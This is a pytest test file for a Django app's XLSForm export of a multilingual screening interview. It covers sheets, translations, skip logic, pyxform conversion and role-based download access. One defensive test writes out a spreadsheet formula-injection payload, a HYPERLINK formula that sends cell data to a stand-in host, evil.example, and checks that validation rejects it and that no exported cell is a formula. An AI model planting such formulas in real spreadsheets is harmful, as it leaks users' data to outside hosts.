"""The XLSForm export: the same questions as the web interview, in every language, with the same skip
logic, as a workbook ODK Collect and KoboToolbox accept."""

from __future__ import annotations

import io
import re

import pytest
from openpyxl import load_workbook

from alliance.core import roles as R
from alliance.directory.services import token_issue
from alliance.screening.domain import languages
from alliance.screening.domain.interview import ANSWERS, SOURCES
from alliance.screening.domain.xlsform import build_xlsform, column, field_name
from tests import factories
from tests.screening import screening_world as world

pytestmark = pytest.mark.django_db
NAME = re.compile(r"^[A-Za-z][A-Za-z0-9_]*$")
REFERENCE = re.compile(r"\$\{([^}]*)\}")
LABELS = [f"label::{column(code)}" for code in languages.CODES]


@pytest.fixture
def interview(db):
    return world.load()


@pytest.fixture
def xlsx(interview) -> bytes:
    return build_xlsform(interview)


def _rows(book, name: str) -> list[dict]:
    sheet = book[name]
    values = list(sheet.iter_rows(values_only=True))
    header = [str(h) for h in values[0]]
    return [{h: ("" if v is None else str(v)) for h, v in zip(header, row, strict=True)} for row in values[1:]]


@pytest.fixture
def book(xlsx):
    return load_workbook(io.BytesIO(xlsx), read_only=True)


def test_the_workbook_has_the_three_sheets_and_a_label_column_per_language(book, interview):
    assert book.sheetnames == ["survey", "choices", "settings"]
    header = [c for c in next(book["survey"].iter_rows(values_only=True))]
    assert header[:2] == ["type", "name"] and header[2:2 + len(LABELS)] == LABELS
    assert LABELS[0] == "label::English (en)" and "label::Russian (ru)" in LABELS
    assert {"hint::English (en)", "relevant", "required"} <= set(header)
    settings = _rows(book, "settings")
    assert len(settings) == 1
    assert settings[0]["form_id"] == "alliance_reception_screening"
    assert settings[0]["default_language"] == "English (en)"
    assert settings[0]["version"] == "-".join(c.version for c in interview.catalogues)


def test_every_question_is_a_row_labelled_in_every_language(book, interview):
    survey = {row["name"]: row for row in _rows(book, "survey")}
    for section in interview.sections:
        for question in section.questions:
            row = survey[field_name(question.catalogue, question.indicator)]
            assert row["type"] == "select_one answer"
            for code, label in zip(languages.CODES, LABELS, strict=True):
                assert row[label].strip(), f"{question.indicator}: no label in {code}"
                assert row[label] == question.text[code].strip()
            if question.observe:
                assert row["hint::English (en)"].strip()
    assert survey["op_dr_job_nature"]["label::English (en)"] == interview.question(
        "ilo-ec-operational", "dr-job-nature").text["en"]


def test_names_are_valid_and_unique(book):
    rows = _rows(book, "survey")
    assert all(row["name"] == "" for row in rows if row["type"] == "end_group")
    names = [row["name"] for row in rows if row["type"] != "end_group"]
    assert all(NAME.match(name) for name in names), [n for n in names if not NAME.match(n)]
    assert len(names) == len(set(names))


def test_every_list_exists_in_choices_with_labels_in_every_language(book):
    choices = _rows(book, "choices")
    lists: dict[str, list[str]] = {}
    for choice in choices:
        lists.setdefault(choice["list_name"], []).append(choice["name"])
        assert all(choice[label].strip() for label in LABELS), choice
    for name, values in lists.items():
        assert len(values) == len(set(values)), name
    used = {row["type"].split()[1] for row in _rows(book, "survey") if row["type"].startswith("select_one ")}
    assert used <= set(lists)
    assert lists["answer"] == list(ANSWERS) and lists["source"] == list(SOURCES)
    assert {"sex", "age_group", "work_type"} <= set(lists)
    yes = next(c for c in choices if c["list_name"] == "answer" and c["name"] == "yes")
    assert yes["label::Arabic (ar)"] == "نعم" and yes["label::Russian (ru)"] == "Да"


def test_skip_logic_and_references(book):
    rows = _rows(book, "survey")
    names = {row["name"] for row in rows}
    for row in rows:
        for column_name in ("relevant", "constraint", "calculation"):
            for reference in REFERENCE.findall(row.get(column_name, "")):
                assert reference in names, f"{row['name']}.{column_name} refers to unknown {reference}"
    groups = {row["name"]: row["relevant"] for row in rows if row["type"] == "begin_group"}
    assert groups == {"screen": "", "recruitment": "", "conditions": "${work_type} != 'none'",
                      "destination": "${work_type} != 'none'", "child": "${is_child} = 'yes'"}
    depth = 0
    for row in rows:
        depth += {"begin_group": 1, "end_group": -1}.get(row["type"], 0)
        assert depth in (0, 1)
    assert depth == 0
    # The fields the skip logic reads come before the groups that read them.
    order = [row["name"] for row in rows]
    assert order.index("work_type") < order.index("conditions") and order.index("is_child") < order.index("child")


def test_pyxform_accepts_it(xlsx, tmp_path):
    """pyxform is the converter ODK Central and KoboToolbox run on an uploaded XLSForm."""
    from pyxform.xls2xform import convert

    path = tmp_path / "form.xlsx"
    path.write_bytes(xlsx)
    result = convert(xlsform=str(path))
    assert "<h:html" in result.xform and "alliance_reception_screening" in result.xform
    assert result.warnings == [], result.warnings
    # Every language travels into the form's translations.
    for code in languages.CODES:
        assert f"({code})" in result.xform


def test_download_page_and_api(client, interview):
    for role, allowed in ((R.FRONTLINE_RESPONDER, True), (R.CASE_WORKER, True), (R.SYSTEM_ADMINISTRATOR, True),
                          (R.ANALYST, False), (R.NATIONAL_COORDINATOR, False), (R.AUDITOR, False)):
        membership = factories.member(factories.organisation(), [role])
        client.force_login(membership.user)
        page = client.get("/screening/xlsform.xlsx")
        client.logout()
        _token, raw = token_issue(actor=factories.actor(membership), name="x", days=1)
        api = client.get("/api/v1/screening/xlsform", HTTP_AUTHORIZATION=f"Bearer {raw}")
        for response in (page, api):
            assert response.status_code == (200 if allowed else 403), (role, response.status_code)
            if allowed:
                assert response["Content-Disposition"].endswith('alliance_reception_screening.xlsx"')
                book = load_workbook(io.BytesIO(response.content), read_only=True)
                assert book.sheetnames == ["survey", "choices", "settings"]


def test_no_published_interview_is_not_found_not_a_server_error(client, db):
    membership = factories.member(factories.organisation(), [R.FRONTLINE_RESPONDER])
    _token, raw = token_issue(actor=factories.actor(membership), name="x", days=1)
    for path in ("/api/v1/screening/xlsform", "/api/v1/screening/interview"):
        response = client.get(path, HTTP_AUTHORIZATION=f"Bearer {raw}")
        assert response.status_code == 404 and "not available" in response.json()["error"]["message"]
    client.force_login(membership.user)
    assert client.get("/screening/xlsform.xlsx").status_code == 404


def test_no_cell_is_a_formula_even_if_a_text_looks_like_one(interview):
    """A catalogue text comes from an editor's form; the export is opened in spreadsheets."""
    from alliance.screening.domain.catalogue import CatalogueError, check

    content = dict(interview.catalogue("mixed-migration-5").content)
    content["indicators"] = [dict(item) for item in content["indicators"]]
    content["indicators"][0]["question"] = {**content["indicators"][0]["question"],
                                            "en": '=HYPERLINK("https://evil.example/?"&A1,"Click")'}
    with pytest.raises(CatalogueError, match="may not start with"):
        check(content)
    book = load_workbook(io.BytesIO(build_xlsform(interview)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
